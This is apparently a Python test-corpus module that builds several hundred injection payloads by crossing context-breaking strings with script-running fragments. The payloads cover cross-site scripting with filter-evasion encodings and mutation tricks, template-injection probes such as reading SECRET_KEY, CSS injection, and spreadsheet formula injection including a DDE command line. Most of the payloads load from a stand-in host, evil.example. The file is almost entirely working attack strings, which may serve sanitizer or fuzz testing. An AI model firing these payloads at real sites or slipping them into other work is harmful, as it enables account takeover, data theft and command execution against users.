"""More than three hundred texts that try to be more than words, made by crossing where a text may stand with what might run there.

Each that runs sets `top.ran`; each that loads asks //evil.example. No letter in them is one that the database cannot hold.
"""

from itertools import cycle
from urllib.parse import quote

CALL, AWAY = "top.ran=1", "//evil.example/x"

LEAVINGS = (
    "", '">', "'>", "`>", "</title>", "</textarea>", "</script>", "-->", "--!>", "]]>", "</style>", "</noscript>", "</option></select>",
    "</template>", "</svg>", "</math>", "</td></tr></table>", "</xmp>", "</iframe>", "</p></a>",
)  # fmt: skip
"""Ends of what a text might stand in."""

RUNNERS = (
    f"<script>{CALL}</script>", f"<script src={AWAY}></script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<SCRIPT\n>{CALL}</SCRIPT\t>",
    f"<script/x>{CALL}</script>", f"<script>/*<!--*/{CALL}//--></script>", f"<img src=x onerror={CALL}>", f'<img src=x onerror="{CALL}"//',
    f"<img/src=x/onerror={CALL}>", f"<img src={AWAY}>", f"<img srcset='{AWAY} 1x'>", f"<image src=x onerror={CALL}>",
    f"<svg onload={CALL}>", f"<svg/onload={CALL}>", f"<svg><script>{CALL}</script></svg>", f"<svg><script href={AWAY} /></svg>",
    f"<svg><a><rect width=9 height=9 /><animate attributeName=href values=javascript:{CALL} /></a></svg>",
    f"<svg><set onbegin={CALL} attributeName=x></svg>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<svg><use href={AWAY}#x /></svg>", f"<svg><image href={AWAY} /></svg>", f"<svg><style>@import '{AWAY}';</style></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>", f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<math href=javascript:{CALL}>x</math>", f"<body onload={CALL}>", f"<body onpageshow={CALL}>", f"<iframe srcdoc='<script>{CALL}</script>'>",
    f"<iframe src=javascript:{CALL}>", f"<iframe src={AWAY}>", f"<iframe onload={CALL}>", f"<frameset onload={CALL}>",
    f"<object data=javascript:{CALL}>", f"<object data={AWAY}>", f"<embed src=javascript:{CALL}>", f"<embed src={AWAY}>",
    f"<video src=x onerror={CALL}>", f"<video><source onerror={CALL}></video>", f"<audio src=x onerror={CALL}>", f"<video poster={AWAY}>",
    f"<audio src={AWAY} autoplay>", f"<details open ontoggle={CALL}>x</details>", f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>", f"<textarea autofocus onfocus={CALL}>", f"<button autofocus onfocus={CALL}>x</button>",
    f"<div tabindex=0 autofocus onfocus={CALL}>x</div>", f"<marquee onstart={CALL}>x</marquee>", f"<keygen autofocus onfocus={CALL}>",
    f"<style>@import '{AWAY}';</style>", f"<style>*{{background:url({AWAY})}}</style>", f"<link rel=stylesheet href={AWAY}>",
    f"<link rel=icon href={AWAY}>", f"<link rel=preload as=image href={AWAY}>", f"<link rel=dns-prefetch href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<base href={AWAY}>", f"<base target=x><a href={AWAY}>x</a>", f"<form action={AWAY}><input name=x><button autofocus>x</button></form>",
    f"<a href=javascript:{CALL} autofocus>x</a>", f"<table background={AWAY}><td>x</td></table>", f"<td background={AWAY}>",
    f"<picture><source srcset={AWAY}><img src=x></picture>", f"<style onload={CALL}></style>", f"<link rel=stylesheet href=x onerror={CALL}>",
    f"<p style='background:url({AWAY})'>x</p>", f"<p style=animation-name:x onanimationstart={CALL}>x</p>",
    f"<xml><x xmlns='http://www.w3.org/1999/xhtml'><script>{CALL}</script></x></xml>", f"<?xml-stylesheet href='{AWAY}'?>",
    f"<!--<img src='--><img src=x onerror={CALL}>'>", f"<!--[if IE]><script>{CALL}</script><![endif]-->", f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<template><script>{CALL}</script></template><img src=x onerror={CALL}>", f"<noscript><img src=x onerror={CALL}></noscript>",
    f"<dialog open onclose={CALL}><form method=dialog><button autofocus>x</button></form></dialog>", f"<portal src={AWAY}></portal>",
    f"<isindex type=image src=x onerror={CALL}>", f"<applet code={AWAY}>", f"<bgsound src={AWAY}>",
    f"<custom-x onpointerover={CALL} autofocus tabindex=1 onfocus={CALL}>x</custom-x>",
)  # fmt: skip

IN_ATTRIBUTES = tuple(
    f"{quote_}{gap}{event}{gap}x={quote_}"
    for quote_, gap in (('"', " "), ("'", " "), ("", " "), ("`", " "), ('"', "/"), ("'", "\n"), ('"', "\t"), ("\\\"", " "), ("&quot;", " "), ("&#39;", " "))
    for event in (f"autofocus onfocus={CALL}", f"onerror={CALL}", f"style=background:url({AWAY})")
)  # fmt: skip

SCHEMES = tuple(
    scheme + body
    for scheme, body in (
        *((word, CALL) for word in (
            "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:", "javascript&colon;",
            "&#106;avascript:", "&#x6A;avascript:", "jav&#x09;ascript:", "javascript://%0a", "javascript:/*--></title>*/", "view-source:javascript:",
            "vbscript:", "livescript:", "feed:javascript:", "ｊavascript:", "javascript：",
        )),
        *((word, f"<script>{CALL}</script>") for word in ("data:text/html,", "data:text/html;charset=utf-7,", "DATA:text/html,", "data:image/svg+xml,")),
        ("data:text/html;base64,", "PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4="), ("blob:", AWAY), ("file://", AWAY), ("", AWAY), ("\\\\", "evil.example/x"),
        ("https:", AWAY), ("/\\", "evil.example/x"), ("//", "evil.example%2f@localhost/x"),
    )
)  # fmt: skip

IN_SCRIPTS = (
    f"';{CALL};'", f'";{CALL};"', f"\\';{CALL};//", f'\\";{CALL};//', f"`;{CALL};`", f"${{{CALL}}}", f"'-{CALL}-'", f'"-{CALL}-"', f'"}};{CALL};//',
    f'"}}]}};{CALL};//', f"\u2028{CALL}//", f"\u2029{CALL}//", f"<!--{CALL}", f"*/{CALL}/*", f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e", f"constructor.constructor('{CALL}')()", f"__proto__[x]={CALL}",
)  # fmt: skip

IN_TEMPLATES = tuple(
    f"{before}{inside}{after}<img src=x onerror={CALL}>"
    for before, after in (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("[[", "]]"), ("{{{", "}}}"), ("@{", "}"), ("%(", ")s"))
    for inside in ("7*7", "settings.SECRET_KEY", "''.__class__.__mro__", f"constructor.constructor('{CALL}')()")
)  # fmt: skip

IN_STYLES = (
    f"}}*{{background:url({AWAY})}}", f"x:expression({CALL})", f"@import '{AWAY}';", f"\\3c img src=x onerror={CALL}\\3e", f"url(javascript:{CALL})",
    f"</style><img src=x onerror={CALL}>", f"-moz-binding:url({AWAY})", f"behavior:url({AWAY})",
)  # fmt: skip

TAG = f"<img src=x onerror={CALL}>"
ENCODED = (
    TAG.replace("<", "&lt;").replace(">", "&gt;"), TAG.replace("<", "&amp;lt;"), TAG.replace("<", "&lt").replace(">", "&gt"),
    TAG.replace("<", "&#60;"), TAG.replace("<", "&#x3c;"), TAG.replace("<", "&#0000060"), TAG.replace("<", "&LT;"), quote(TAG), quote(quote(TAG)),
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-", TAG.replace("<", "＜").replace(">", "＞"), TAG.replace("<", "‹").replace(">", "›"),
    TAG.replace("<", "%u003c"), TAG.replace("<", "\\x3c"), TAG.replace("<", "\xc0\xbc"), TAG.replace("<", "¼").replace(">", "¾"),
    TAG.replace("<img", "<\u200bimg"), TAG.replace("<img", "<im\u200dg"), TAG.replace("<", "<\u0338"), TAG.replace("<", "≮"),
    f"<ſcript>{CALL}</ſcript>", f"<ſvg onload={CALL}>", f"<ımg src=x onerror={CALL}>", f"\u202e{TAG}\u202c", f"\ufeff{TAG}", f"\u00ad{TAG}",
    TAG.replace(" ", "\u00a0"), TAG.replace(" ", "\u2003"), TAG.replace(" ", "\x0c"), TAG.replace(" ", "\x0b"), TAG.replace(" ", "/\r"),
    f"\U0001f4a9{TAG}", f"\u0301{TAG}\u0301", f"\x1b$B{TAG}\x1b(B", f"\x7f{TAG}", f"\ufffd{TAG}\ufffe", f"\U000e0001{TAG}",
)  # fmt: skip

MUTANTS = (
    f"<svg></p><style><a id=\"</style>{TAG}\">", f"<svg><p><style><!--</style>{TAG}--></style>", f"<noscript><p title=\"</noscript>{TAG}\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={CALL}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math>{TAG}", f"<listing>&lt;img src=1 onerror={CALL}&gt;</listing>",
    f"<x title=\"&lt;/x&gt;&lt;img src=1 onerror={CALL}&gt;\">", f"<xmp><p title=\"</xmp>{TAG}\">", f"<plaintext>{TAG}", f"<select><template>{TAG}</template></select>",
    f"<a href=\"x\"<{TAG}", f"<img alt=\"<x\" title=\"/>{TAG}\">", f"<title><img title=\"</title>{TAG}\">", f"<textarea><p id=\"</textarea>{TAG}\">",
    f"<iframe><p id=\"</iframe>{TAG}\">", f"<desc><svg><style><title></style>{TAG}</title>", f"<option><style></option></select><b>{TAG}</style></option>",
    f"``onmouseover={CALL} {TAG}", f"<p id=x>{TAG}</p id=\"", f"<br><annotation-xml encoding=\"text/html\">{TAG}",
)  # fmt: skip

FORMULAS = tuple(
    f"{sign}{call}"
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', "％=", "＝", "|")
    for call in (f'HYPERLINK("https:{AWAY}","Mở")', "cmd|' /C calc'!A0")
)

CROSSED = tuple(leaving + runner for leaving, runner in zip(cycle(LEAVINGS), (*RUNNERS, *RUNNERS), strict=False))
"""Every runner twice, each time out of another place: their numbers have no divisor in common."""
PAYLOADS = tuple(
    dict.fromkeys(
        (*CROSSED, *IN_ATTRIBUTES, *SCHEMES, *IN_SCRIPTS, *IN_TEMPLATES, *IN_STYLES, *ENCODED, *MUTANTS, *FORMULAS)
    )
)
